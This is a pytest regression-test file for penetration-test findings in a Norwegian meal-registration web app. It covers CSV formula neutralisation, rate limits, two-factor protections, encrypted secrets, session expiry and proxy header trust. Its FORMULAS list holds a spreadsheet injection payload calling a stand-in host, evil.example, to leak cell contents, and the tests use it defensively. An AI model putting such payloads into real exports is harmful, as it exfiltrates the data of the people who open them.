"""The other findings of the penetration test, one regression test each (or a few)."""

from __future__ import annotations

import csv
import io
import time
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
import time_machine

from gjestebud import encryption
from gjestebud.extensions import db
from gjestebud.models import Meal, Message, User
from gjestebud.services import consent, outbox, spreadsheets, totp
from gjestebud.services.notes import add_note
from tests.account_helpers import current_code, login
from tests.conftest import TEST_PASSWORD, csrf_token, html, make_org, make_user
from tests.test_data_rights import ADDRESS, LINK, ask, confirm

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Klikk her")', "+47 sier hei",
            "-2+3", "@SUM(1)", "\uff1dSUM(1)"]


def test_every_formula_start_is_neutralised():
    for text in [*FORMULAS, "\tTAB", "\rCR", "- mer buss"]:
        assert spreadsheets.safe_cell(text) == "'" + text
    assert spreadsheets.safe_cell("Mer buss - takk") == "Mer buss - takk"
    assert spreadsheets.safe_cell(12) == 12


# --- 2. formula injection in the spreadsheets people open ------------------------------------

def test_notes_download_never_runs_a_formula(client, org, campaign, meal, coordinator):
    question = campaign.questions[0]
    for n, text in enumerate(FORMULAS):
        add_note(meal, question, text, f"f{n}", max_length=280, language="nb")
    meal.place.name = "=Askim"
    db.session.commit()
    login(client, coordinator.email)
    response = client.get(f"/staff/campaigns/{campaign.id}/notes.csv")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert sorted(r["text"] for r in rows) == sorted("'" + t for t in FORMULAS)
    assert {r["location"] for r in rows} == {"'=Askim"}


def test_the_command_line_export_for_the_pipeline_stays_raw(runner, campaign, meal, tmp_path):
    add_note(meal, campaign.questions[0], FORMULAS[0], "f0", max_length=280, language="nb")
    db.session.commit()
    out = tmp_path / "notes.csv"
    assert runner.invoke(args=["export", "notes", campaign.slug, "--out", str(out)]).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [r["text"] for r in rows] == [FORMULAS[0]]


def test_my_data_csv_never_runs_a_formula(app, client, meal):
    meal.campaign.titles = {"nb": "=1+1 kampanje"}
    consent.give_consent(meal, ADDRESS, "en")
    message = outbox.queue_message(kind="test", recipient=ADDRESS, language="nb",
                                   dedupe_key="formula", context={"queued_on": date.today()},
                                   organisation_id=meal.campaign.organisation_id)
    message.subject = '=HYPERLINK("x")'
    db.session.commit()
    ask(client, ADDRESS, "export")
    mails = [f.read_text(errors="replace") for f in Path(app.config["MAIL_FOLDER"]).glob("*.eml")]
    [link] = [m.group(1) for m in map(LINK.search, mails) if m]
    download = confirm(client, link, format="csv")
    cells = [c for row in csv.reader(io.StringIO(download.get_data(as_text=True))) for c in row]
    assert "'=HYPERLINK(\"x\")" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


# --- 3. public meal registration is limited ---------------------------------------------------

@pytest.fixture
def limited(app):
    app.config.update(REGISTRATION_RATE_LIMIT_PER_IP="3 per hour",
                      REGISTRATION_RATE_LIMIT_PER_CAMPAIGN="5 per hour")


def register(client, campaign, name: str, ip: str):
    url = f"/c/{campaign.slug}/register?lang=en"
    page = client.get(url)
    place, group = campaign.places[0], campaign.target_groups[0]
    return client.post(url, environ_base={"REMOTE_ADDR": ip}, data={
        "csrf_token": csrf_token(page), "host_name": name, "email": "vert@example.no",
        "place": place.id, "target_group": group.id,
        "held_on": (datetime.now() + timedelta(days=3)).date().isoformat(),
        "expected_guests": 6, "language": "nb",
    })


def meals() -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(Meal))


def test_a_burst_of_registrations_is_stopped_with_the_text_kept(limited, client, campaign):
    statuses = [register(client, campaign, f"Robot {n}", "10.0.0.1").status_code
                for n in range(4)]
    assert statuses == [303, 303, 303, 429]
    assert meals() == 3
    refused = register(client, campaign, "Kari Vert", "10.0.0.1")
    page = html(refused)
    assert "Too many meals were registered" in page.find(id="too-many").get_text()
    assert page.find("input", id="host_name")["value"] == "Kari Vert"


def test_the_campaign_limit_holds_across_addresses(limited, client, campaign):
    statuses = [register(client, campaign, f"Robot {n}", f"10.0.1.{n}").status_code
                for n in range(6)]
    assert statuses == [303] * 5 + [429]
    assert meals() == 5


# --- 4. two-factor cannot be moved to a new app without the password --------------------------

@pytest.fixture
def with_totp(app, org):
    user = make_user(org, email="koord@example.no", role="coordinator")
    with time_machine.travel(time.time() - 90, tick=False):
        secret = totp.begin_enrolment(user, "Gjestebud").secret
        assert totp.confirm_enrolment(user, current_code(secret)) is not None
    db.session.commit()
    return user, secret


def _logged_in_with_code(app, secret):
    client = app.test_client()
    login(client, "koord@example.no")
    page = client.get("/staff/account/code")
    client.post("/staff/account/code", data={"csrf_token": csrf_token(page),
                                             "code": current_code(secret)})
    assert client.get("/staff/").status_code == 200
    return client


def test_a_stolen_session_cannot_replace_the_authenticator(app, with_totp):
    user, old_secret = with_totp
    thief = _logged_in_with_code(app, old_secret)
    page = thief.get("/staff/account/two-factor?lang=en")
    new_secret = html(page).find(id="totp-secret").get_text().replace(" ", "")
    refused = thief.post("/staff/account/two-factor?lang=en", data={
        "csrf_token": csrf_token(page), "code": current_code(new_secret), "password": "gjett"})
    assert "The password was not right" in html(refused).find(id="wrong-password").get_text()
    missing = thief.post("/staff/account/two-factor?lang=en", data={
        "csrf_token": csrf_token(page), "code": current_code(new_secret)})
    assert "Write your password" in html(missing).find(id="password-error").get_text()
    db.session.expire_all()
    assert totp.credential(user).secret == old_secret


def test_replacing_with_the_password_ends_every_other_session(app, with_totp):
    user, old_secret = with_totp
    with time_machine.travel(time.time() - 35, tick=False):  # the code step before
        other_device = _logged_in_with_code(app, old_secret)
    me = _logged_in_with_code(app, old_secret)
    page = me.get("/staff/account/two-factor?lang=en")
    new_secret = html(page).find(id="totp-secret").get_text().replace(" ", "")
    done = me.post("/staff/account/two-factor?lang=en", data={
        "csrf_token": csrf_token(page), "code": current_code(new_secret),
        "password": TEST_PASSWORD})
    assert html(done).select(".recovery-codes code")
    db.session.expire_all()
    assert totp.credential(user).secret == new_secret
    assert me.get("/staff/").status_code == 200
    assert other_device.get("/staff/").status_code == 302


# --- 5. two-factor secrets are encrypted in the database -------------------------------------

def test_secrets_are_stored_encrypted_and_read_back(app, with_totp):
    user, secret = with_totp
    stored = db.session.execute(sa.text("SELECT secret FROM totp_credential")).scalar()
    assert stored != secret and secret not in stored
    assert encryption.is_encrypted(stored)
    assert totp.credential(user).secret == secret


def test_a_new_key_rotates_the_secrets_and_the_old_key_still_opens_them(app, runner, with_totp):
    user, secret = with_totp
    old_key = encryption.derived_key(app.config["SECRET_KEY"])
    new_key = encryption.new_key()
    app.config["TOTP_KEYS"] = [new_key, old_key]
    db.session.expire_all()
    assert totp.credential(user).secret == secret  # read with the old key
    result = runner.invoke(args=["totp", "rotate-key"])
    assert result.exit_code == 0, result.output
    assert "1 accounts" in result.output
    app.config["TOTP_KEYS"] = [new_key]
    db.session.expire_all()
    assert totp.credential(user).secret == secret


def test_a_wrong_key_fails_closed(app, with_totp, caplog):
    user, secret = with_totp
    app.config["TOTP_KEYS"] = [encryption.new_key()]
    db.session.expire_all()
    assert totp.verify(user, current_code(secret)) is None
    assert totp.is_enabled(user)
    assert "could not be decrypted" in caplog.text


def test_a_malformed_key_stops_the_app_from_starting(tmp_path):
    from gjestebud import create_app
    from tests.conftest import base_config

    with pytest.raises(RuntimeError, match="key 2 is not a Fernet key"):
        create_app({**base_config(tmp_path), "TOTP_KEYS": [encryption.new_key(), "kort"]})


# --- 7. an active session still ends N hours after the login ---------------------------------

def test_a_busy_session_ends_twelve_hours_after_the_login(client, coordinator):
    with time_machine.travel(datetime(2026, 3, 2, 8, 0), tick=False) as traveller:
        login(client, coordinator.email)
        statuses = []
        for _ in range(35):  # a page every 20 minutes until 19:40
            traveller.shift(timedelta(minutes=20))
            statuses.append(client.get("/staff/").status_code)
        assert set(statuses) == {200}
        traveller.shift(timedelta(minutes=25))  # 20:05, still active
        assert client.get("/staff/").status_code == 302
        page = client.get("/staff/login?lang=en")
        assert "logged in a long time ago" in html(page).find(class_="flashes").get_text()


def test_the_lifetime_is_a_setting(app, client, coordinator):
    app.config["STAFF_SESSION_LIFETIME"] = timedelta(hours=1)
    with time_machine.travel(datetime(2026, 3, 2, 8, 0), tick=False) as traveller:
        login(client, coordinator.email)
        for _ in range(2):
            traveller.shift(timedelta(minutes=25))
            assert client.get("/staff/").status_code == 200
        traveller.shift(timedelta(minutes=15))
        assert client.get("/staff/").status_code == 302


# --- 8. inviting an address from another organisation tells nothing ---------------------------

def test_inviting_an_address_from_another_organisation_answers_as_for_a_new_one(client, org):
    make_user(org, email="admin@example.no", role="admin")
    other = make_org("Drammen kommune", "drammen")
    make_user(other, email="kari@drammen.example", role="coordinator")
    db.session.commit()
    login(client, "admin@example.no")

    def invite(address):
        page = client.get("/staff/admin/users/invite?lang=en")
        response = client.post("/staff/admin/users/invite?lang=en", data={
            "csrf_token": csrf_token(page), "email": address, "name": "Kari",
            "role": "coordinator", "language": "en"}, follow_redirects=True)
        return response.status_code, html(response).find(class_="flashes").get_text(" ",
                                                                                     strip=True)

    status_new, said_new = invite("ny@example.no")
    status_elsewhere, said_elsewhere = invite("kari@drammen.example")
    assert status_new == status_elsewhere == 200
    assert said_new.replace("ny@example.no", "X") == said_elsewhere.replace(
        "kari@drammen.example", "X")
    db.session.expire_all()
    kari = db.session.scalar(sa.select(User).where(User.email == "kari@drammen.example"))
    assert kari.organisation_id == other.id
    notice = db.session.scalar(sa.select(Message).where(Message.kind == "staff_invite_elsewhere"))
    assert notice.recipient == "kari@drammen.example"
    assert "ikke laget noen ny konto" in notice.body_text  # in the account's language
    # The inviting organisation's outbox does not give it away either.
    outbox_page = client.get("/staff/messages/?lang=en").get_data(as_text=True)
    assert "kari@drammen.example" not in outbox_page
    assert "ny@example.no" in outbox_page
    # Inviting again the same day sends the owner no second e-mail.
    invite("kari@drammen.example")
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Message).where(
        Message.kind == "staff_invite_elsewhere")) == 1


# --- 9. forwarded headers count only from the proxies the settings name -----------------------

def test_a_forwarded_scheme_counts_only_behind_trusted_proxies(tmp_path):
    from gjestebud import create_app
    from tests.conftest import base_config

    spoofed = {"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.9"}
    direct = create_app(base_config(tmp_path)).test_client().get("/", headers=spoofed)
    assert "Strict-Transport-Security" not in direct.headers
    proxied = create_app({**base_config(tmp_path), "TRUSTED_PROXIES": 1}).test_client()
    assert "Strict-Transport-Security" in proxied.get("/", headers=spoofed).headers
